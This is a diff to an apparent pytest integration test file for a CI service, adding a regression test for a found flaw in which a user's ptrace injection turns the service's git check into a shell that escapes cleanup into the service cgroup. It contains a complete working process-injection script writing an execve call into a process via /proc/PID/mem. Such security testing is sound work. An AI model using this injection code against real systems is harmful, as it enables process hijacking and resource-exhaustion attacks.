@@ -18,6 +18,8 @@ import time
 
 import pytest
 
+from tests.integration.conftest import wait_for
+
 from .conftest import Box
 from .test_review_attacks import (  # noqa: F401  (gate is a fixture)
     DROP,
@@ -221,6 +223,8 @@ while true; do
     case $action in
       stop) kill -STOP "$p" ;;
       limit) prlimit --pid "$p" --nofile=3:3 && : > /home/alice/block ;;
+      exec) python3 /srv/inject.py "$g" 'cat /proc/self/cgroup > /srv/drop/injected;
+              setsid sleep 1000 </dev/null >/dev/null 2>&1 &' ;;
     esac
     echo "$g $p" >> /srv/drop/acted
   done
@@ -229,11 +233,84 @@ done
 """
 
 
+# alice's ptrace of her own git (no tool needed but python3): attach, write an argv
+# below its stack pointer through /proc/PID/mem, point it at a `syscall` instruction
+# of its own code with execve's number, detach. git becomes `sh -c CMD`.
+INJECT = r"""
+import ctypes, os, sys
+pid, command = int(sys.argv[1]), sys.argv[2].encode()
+libc = ctypes.CDLL(None, use_errno=True)
+libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+NAMES = ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs "
+         "eflags rsp ss fs_base gs_base ds es fs gs").split()
+class Regs(ctypes.Structure):
+    _fields_ = [(name, ctypes.c_ulonglong) for name in NAMES]
+if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
+    sys.exit(f"attach: errno {ctypes.get_errno()}")
+os.waitpid(pid, 0x40000000)  # __WALL
+regs = Regs()
+libc.ptrace(12, pid, None, ctypes.byref(regs))  # PTRACE_GETREGS
+mem = open(f"/proc/{pid}/mem", "r+b", buffering=0)
+gadget = None
+for line in open(f"/proc/{pid}/maps"):
+    span, perms = line.split()[:2]
+    if "x" in perms and gadget is None:
+        start, end = (int(x, 16) for x in span.split("-"))
+        mem.seek(start)
+        at = mem.read(end - start).find(b"\x0f\x05")
+        gadget = start + at if at >= 0 else None
+base = (regs.rsp - 4096) & ~0xF
+strings = [b"/bin/sh\0", b"-c\0", command + b"\0"]
+table = base + 8 * 4
+pointers, blob, at = [], b"", table
+for text in strings:
+    pointers.append(at)
+    blob += text
+    at += len(text)
+mem.seek(base)
+mem.write(b"".join(p.to_bytes(8, "little") for p in pointers) + bytes(8) + blob)
+regs.rax, regs.rdi, regs.rsi, regs.rdx = 59, pointers[0], base, 0  # execve
+regs.rip, regs.orig_rax = gadget, 2**64 - 1  # no syscall restart
+libc.ptrace(13, pid, None, ctypes.byref(regs))  # PTRACE_SETREGS
+libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
+"""
+
+
 def start_watch(box: Box, action: str) -> None:
+    box.c.write("/srv/inject.py", INJECT, "0644")
     box.c.write("/srv/watch.sh", WATCH, "0755")
     box.sh("rm -f /home/alice/block && mkfifo -m 600 /home/alice/block && "
            "printf '[include]\\n\\tpath = ~/block\\n' > /home/alice/.gitconfig", user="alice")
     box.sh(f"setsid sh /srv/watch.sh {action} >/dev/null 2>&1 < /dev/null &", user="alice")
+
+
+def test_a_ptraced_submit_check_leaves_nothing_of_alices_in_the_service(gate: Box) -> None:
+    """FOUND (medium: the service's TasksMax for anyone's runs and checks). The
+    submit check's `git rev-parse` runs as alice: hers to ptrace. While it waits on
+    her FIFO, her watcher turns it into `sh -c 'setsid sleep 1000 &'` (execve
+    injected). The sleep was never the check's child: nothing killed it, and it
+    stayed in minipipe.service's own cgroup, where she could fork up to the
+    service's TasksMax. Now the check runs in a scope of its own
+    (minipipe-check-<pid>.scope, TasksMax 64, a runtime limit) that the daemon
+    stops when the check ends: the sleep is never in the service, and goes."""
+    box = gate
+    start_watch(box, "exec")
+    try:
+        result = box.minipipe("submit -", input=plan("printf 'v2\\n' > VERSION"), check=False)
+        assert result.returncode != 0, f"took run {result.stdout.strip()}"
+        acted = box.sh(f"cat {DROP}/acted", check=False).stdout
+        assert acted, "the watcher never found the check's git"
+        wait_for(lambda: box.sh(f"cat {DROP}/injected", check=False).stdout, 10,
+                 "the injected shell")
+        in_service = service_processes_of(box, "alice")
+        cgroup = box.sh(f"cat {DROP}/injected").stdout
+        wait_for(lambda: not box.sh("pgrep -u alice -x sleep", check=False).stdout, 10,
+                 "alice's sleep to go with the check's scope")
+    finally:
+        stop_watch(box)
+        box.sh("pkill -u alice -x sleep", check=False)
+    assert not in_service, f"alice's processes in minipipe.service: {in_service}"
+    assert "/minipipe.slice/minipipe-check-" in cgroup, cgroup
 
 
 def stop_watch(box: Box) -> None:
